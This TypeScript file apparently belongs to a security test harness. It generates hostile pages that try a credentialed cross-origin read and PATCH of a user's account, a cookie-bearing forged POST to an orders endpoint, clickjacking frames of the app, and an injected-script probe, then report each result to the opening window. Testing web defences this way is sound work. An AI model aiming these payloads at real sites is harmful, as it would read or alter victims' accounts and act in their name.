type Origins = Readonly<Record<'shell' | 'catalog' | 'api', string>>

// Every page tells the window that opened or framed it how its attack went, so the shell shows what really happened here.

/** Says that it was loaded: whoever sees this inside the shell has lost. */
export function rogue(): string {
  return page('The attacker', '<p>You are looking at the attacker’s own page.</p>', `tell({ loaded: location.host })`)
}

/** Runs if a page of the shell can be made to load it. */
export function steal(): string {
  return `parent.postMessage({ ran: 'the attacker’s script' }, '*')`
}

/** Tries to read the visitor's account, and to change it, with the visitor's own cookie. */
export function read({ api }: Origins): string {
  return page(
    'Reading your account',
    '<p>This page asks the API for your account, with your cookie.</p><ol id="log"></ol>',
    `
    const tries = [
      ['GET', '/account', {}],
      ['PATCH', '/account', { headers: { 'content-type': 'application/json' }, body: '{"name":"Mallory"}' }],
    ]
    for (const [method, path, more] of tries) {
      const outcome = await fetch('${api}' + path, { method, credentials: 'include', ...more }).then(
        async (response) => 'read: ' + (await response.text()),
        (error) => String(error),
      )
      note(method + ' ' + path + ' → ' + outcome)
      tell({ method, path, got: outcome.startsWith('read: '), outcome })
    }
    tell({ done: 'read' })
    `,
  )
}

/** Sends an order without asking first: no preflight, so CORS alone would let it arrive. */
export function forge({ api }: Origins): string {
  return page(
    'Ordering in your name',
    '<p>This page posts an order the way a plain form would, with your cookie.</p><ol id="log"></ol>',
    `
    await fetch('${api}/orders', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'express' }).then(
      () => note('The request was sent. The answer stays hidden from this page.'),
      (error) => note(String(error)),
    )
    tell({ done: 'forge' })
    `,
  )
}

/** Puts the shell and a team app under its own buttons: clickjacking. */
export function frame({ shell, catalog }: Origins): string {
  return page(
    'Framing your pages',
    `<p>This page puts the shell, and a team’s app, into frames of its own to trick you into clicking.</p>
     <iframe src="${shell}/" title="the shell"></iframe><iframe src="${catalog}/" title="the catalog"></iframe>
     <p>A frame that shows nothing is one your browser refused to fill.</p>`,
    `tell({ done: 'frame' })`,
  )
}

function page(title: string, body: string, script: string): string {
  return `<!doctype html>
<html lang="en"><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>${title}</title>
<style>
  body { margin: 0 auto; max-width: 34rem; padding: 2rem; font: 1rem/1.5 system-ui, sans-serif; color: #f6dcd3; background: #2a0f0b }
  h1 { font-size: 1.5rem; color: #ff8a6b } b { color: #fff } li { overflow-wrap: anywhere }
  iframe { display: block; width: 100%; height: 11rem; margin: 1rem 0; border: 1px dashed #ff8a6b; background: #fff1 }
</style>
<p><b id="here"></b></p><h1>${title}</h1>
${body}
<script type="module">
  document.getElementById('here').textContent = location.host
  const home = opener ?? (parent === window ? null : parent)
  const tell = (message) => home?.postMessage(message, '*')
  const note = (text) => document.getElementById('log').appendChild(document.createElement('li')).append(text)
  ${script}
</script>
</html>
`
}
